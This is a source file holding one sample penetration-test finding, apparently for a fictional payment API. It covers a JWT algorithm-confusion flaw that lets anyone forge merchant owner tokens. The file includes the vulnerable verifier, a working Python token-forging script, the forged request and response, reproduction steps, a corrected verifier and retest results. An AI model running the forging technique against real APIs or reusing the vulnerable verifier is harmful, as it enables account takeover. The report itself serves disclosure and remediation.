import { rate } from '#content/findings/rate.ts';
import { bullets, code, paragraph } from '#content/blocks.ts';
import type { ReportFinding } from '#content/sample-report/finding.ts';

export const tokenForgery: ReportFinding = {
  id: 'MP-01',
  title: 'Anyone can forge an access token for any merchant',
  summary:
    'The API accepts tokens signed with HS256 and uses the public RS256 key as the secret, so anyone can sign a valid token.',
  rating: rate({
    v31: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
    v40: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
  }),
  ratingNote:
    'No account is needed, because the key is public by design. Availability is None, because the API offers no way to disable a merchant.',
  cwe: { id: 'CWE-347', name: 'Improper Verification of Cryptographic Signature' },
  standard: 'OWASP API2:2023, WSTG-SESS-10',
  assets: ['api.meridianpay.example, all operations under /v2', 'Package @meridian/auth 3.4.1'],
  priority: 'Now',
  owner: 'Identity team lead',
  description: [
    paragraph(
      'Access tokens are signed by the login service with RS256: a private key signs, a public key verifies. Tokens between services use HS256, where one shared secret does both. The function that verifies tokens allows both algorithms and always passes the same key, the public one.',
    ),
    paragraph(
      'The token’s own header decides which algorithm is used. If it says HS256, the text of the public key becomes the shared secret. Anyone can download that text.',
    ),
  ],
  evidence: [
    code(
      'typescript',
      'The function that verifies tokens, from the source code shared for the test',
      `
// @meridian/auth/verify.ts, jsonwebtoken 8.5.1
export function verifyToken(token: string): Claims {
  return jwt.verify(token, keys.publicPem, {
    algorithms: ['RS256', 'HS256'], // HS256: service tokens
  }) as Claims;
}
`,
    ),
    code(
      'python',
      'Signing a token for test merchant B with the public key',
      `
import base64, hashlib, hmac, json

def b64(raw: bytes) -> bytes:
    return base64.urlsafe_b64encode(raw).rstrip(b"=")

pem = open("public.pem", "rb").read()  # rebuilt from /.well-known/jwks.json
head = b64(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
body = b64(json.dumps({
    "sub": "usr_test_b", "merchant": "mer_test_b", "role": "owner", "exp": 1773100800,
}).encode())
sign = b64(hmac.new(pem, head + b"." + body, hashlib.sha256).digest())
print((head + b"." + body + b"." + sign).decode())
`,
    ),
    code(
      'http',
      'Request and response with the forged token',
      `
GET /v2/merchants/mer_test_b HTTP/1.1
Host: api.meridianpay.example
Authorization: Bearer {-eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCJ9.<...>-} {#1}

HTTP/1.1 200 OK
Content-Type: application/json

{"id":{!"mer_test_b"!},"tradingName":"Test Merchant B","balanceCents":250000,"role":{!"owner"!}} {#2}
`,
      ['signed by us, with the public key', 'owner of a merchant that isn’t ours'],
    ),
  ],
  reproduction: [
    'Download `/.well-known/jwks.json` from the login service and convert the RSA key to PEM, keeping the line breaks and final newline that OpenSSL writes.',
    'Run the script above with the IDs of a merchant that belongs to you.',
    'Send the token to any operation under `/v2`. The API responds as if the owner had signed in.',
    'Change one character of the signature. The API returns 401, so it does check the signature, but it lets the token choose the algorithm.',
  ],
  impact:
    'Full control of every merchant account: balances, customers, refunds and the account that payouts go to. Two-factor login doesn’t help, because the login service is never involved. The logs show what looks like a normal session by the merchant’s owner.',
  likelihood:
    'High. The technique has been public since 2015, common tools try it by default, and the attacker only needs one public key. Merchant IDs appear in payment links.',
  remediation: [
    paragraph(
      'Let the key decide the algorithm, never the token. Use one verifier per issuer, with one algorithm, a fixed issuer and a fixed audience.',
    ),
    code(
      'typescript',
      'Proposed verifier for merchant tokens, using the jose library',
      `
const issuer = 'https://auth.meridianpay.example';
const jwks = createRemoteJWKSet(new URL('/.well-known/jwks.json', issuer));

export async function verifyMerchantToken(token: string) {
  const { payload } = await jwtVerify(token, jwks, {
    algorithms: ['RS256'],
    issuer,
    audience: 'payments-api',
  });
  return payload;
}
`,
    ),
    bullets(
      'Verify service tokens in a second function with its own secret, and accept them only on internal addresses.',
      'Wherever you still use jsonwebtoken, update it to version 9 or later, which rejects a public key for HS256.',
      'Rotate the signing key after the release, and end all sessions.',
      'Search the last 90 days of logs for tokens with HS256 in their header on public hosts.',
    ),
  ],
  references: [
    {
      label: 'RFC 8725, JSON Web Token Best Current Practices, section 3.1',
      url: 'https://www.rfc-editor.org/rfc/rfc8725',
    },
    {
      label: 'OWASP API Security Top 10, API2:2023 Broken Authentication',
      url: 'https://owasp.org/API-Security/editions/2023/en/0xa2-broken-authentication/',
    },
    { label: 'CWE-347', url: 'https://cwe.mitre.org/data/definitions/347.html' },
  ],
  retest: {
    status: 'Fixed',
    date: '2026-04-20',
    note: 'The API returned 401 for tokens that used HS256, HS512 or `none`, and for one with a key embedded in its header. It also rejected tokens for another audience. The client rotated the signing key on March 12, 2026, three days after our call.',
  },
};
